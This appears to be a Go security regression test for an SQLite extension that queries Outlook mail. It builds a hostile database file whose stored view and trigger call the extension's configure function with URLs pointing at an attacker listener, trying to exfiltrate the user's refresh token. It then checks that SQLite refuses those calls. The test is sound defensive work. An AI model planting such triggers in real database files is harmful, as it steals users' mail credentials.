package main

import (
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/outlooksql/outlooksql/internal/demo"
	"github.com/outlooksql/outlooksql/internal/fakegraph"
)

// TestHostileDatabaseFile opens a .db that an attacker prepared in the stock
// sqlite3 shell with the extension loaded: a view and a trigger stored in
// the file call outlooksql_configure with a BaseUrl and TokenUrl of the
// attacker's (a loopback listener here), hoping to receive the user's token.
// SQLite must refuse both calls ("unsafe use of …", the function is
// DIRECTONLY) and the listener must receive nothing, while the user's own
// configuration, views over the mail tables stored in the file, and the
// user's own queries keep working.
func TestHostileDatabaseFile(t *testing.T) {
	shell, so := extension(t)

	// The attacker's server: counts every connection made to it.
	trap, err := fakegraph.NewTrap()
	if err != nil {
		t.Fatal(err)
	}
	defer trap.Close()
	evil := trap.URL()

	tenant := fakegraph.Generate(fakegraph.GenConfig{Seed: 7, Users: 1, MessagesPerUser: 20})
	env, err := demo.Start(tenant)
	if err != nil {
		t.Fatal(err)
	}
	defer env.Close()

	// The attacker knows where the victim's token file is (a default
	// path) and points everything else at the listener.
	hostileConn := strings.Join([]string{
		"BaseUrl=" + evil + "/v1.0",
		"TokenUrl=" + evil + "/token",
		"ClientId=" + fakegraph.ClientID,
		"RefreshTokenFilePath={" + env.TokenFile + "}",
	}, ";")
	call := "outlooksql_configure('" + strings.ReplaceAll(hostileConn, "'", "''") + "')"
	db := filepath.Join(t.TempDir(), "hostile.db")
	// The file is made without the extension: SQLite stores the SQL.
	_, stderr := runScript(t, shell, db, strings.Join([]string{
		"CREATE TABLE notes(x);",
		"CREATE VIEW report AS SELECT " + call + " AS c, (SELECT count(*) FROM messages) AS n;",
		"CREATE TRIGGER grab AFTER INSERT ON notes BEGIN SELECT " + call + "; SELECT count(*) FROM messages; END;",
		"CREATE VIEW unread AS SELECT count(*) AS n FROM messages WHERE is_read = 0;",
	}, "\n"))
	if stderr != "" {
		t.Fatalf("making the hostile file: %s", stderr)
	}

	var unread int
	for _, m := range tenant.Users[0].Messages {
		if !m.IsRead {
			unread++
		}
	}
	stdout, stderr := runScript(t, shell, db, strings.Join([]string{
		".load " + so,
		".mode list",
		"SELECT * FROM report;",
		"INSERT INTO notes VALUES (1);",
		"SELECT outlooksql_configure('" + strings.ReplaceAll(env.ConnString(), "'", "''") + "') > 0;", // the user's own
		"SELECT 'count', count(*) FROM messages;",                                                     // the user's query still goes to the user's server
		"SELECT 'unread', n FROM unread;",                                                             // a writable connection: the file's view may not read mail
		"SELECT 'notes', count(*) FROM notes;",
	}, "\n"))

	if n := trap.Contacted(); n != 0 {
		t.Errorf("the attacker's listener was contacted %d times", n)
	}
	// SQLite names the first unsafe thing it meets: the mail table in the
	// views (DIRECTONLY on a connection that may write), the function in
	// the trigger.
	wantErr := strings.Join([]string{
		`Parse error near line 3: unsafe use of virtual table "messages"`,
		`Parse error near line 4: unsafe use of outlooksql_configure()`,
		`Parse error near line 7: unsafe use of virtual table "messages"`,
		"",
	}, "\n")
	if stderr != wantErr {
		t.Errorf("stderr:\n%s\nwant:\n%s", stderr, wantErr)
	}
	wantOut := strings.Join([]string{
		"1",
		"count|" + strconv.Itoa(len(tenant.Users[0].Messages)),
		"notes|0",
		"",
	}, "\n")
	if stdout != wantOut {
		t.Errorf("stdout:\n%s\nwant:\n%s\n(stderr: %s)", stdout, wantOut, stderr)
	}

	// Read-only from the start, the file's view over mail reads it (the
	// setting for BI tools); the function stays refused.
	roConn := env.ConnString("ReadOnly=True")
	stdout, stderr = runScript(t, shell, db, strings.Join([]string{
		".load " + so,
		".mode list",
		"SELECT outlooksql_configure('" + strings.ReplaceAll(roConn, "'", "''") + "') > 0;",
		"SELECT 'unread', n FROM unread;",
		"SELECT * FROM report;",
		"UPDATE messages SET is_read = 1;",
	}, "\n"))
	wantOut = "1\nunread|" + strconv.Itoa(unread) + "\n"
	wantErr = strings.Join([]string{
		`Parse error near line 5: unsafe use of outlooksql_configure()`,
		`Runtime error near line 6: messages: the connection is read-only (ReadOnly=True): no change was sent; open it without ReadOnly=True to change mail`,
		"",
	}, "\n")
	if stdout != wantOut || stderr != wantErr {
		t.Errorf("read-only: stdout:\n%s\nwant:\n%s\nstderr:\n%s\nwant:\n%s", stdout, wantOut, stderr, wantErr)
	}
	if n := trap.Contacted(); n != 0 {
		t.Errorf("the attacker's listener was contacted %d times", n)
	}
	if strings.Contains(stdout+stderr, fakegraph.ClientSecret) {
		t.Error("the client secret appears in the shell's output")
	}
}
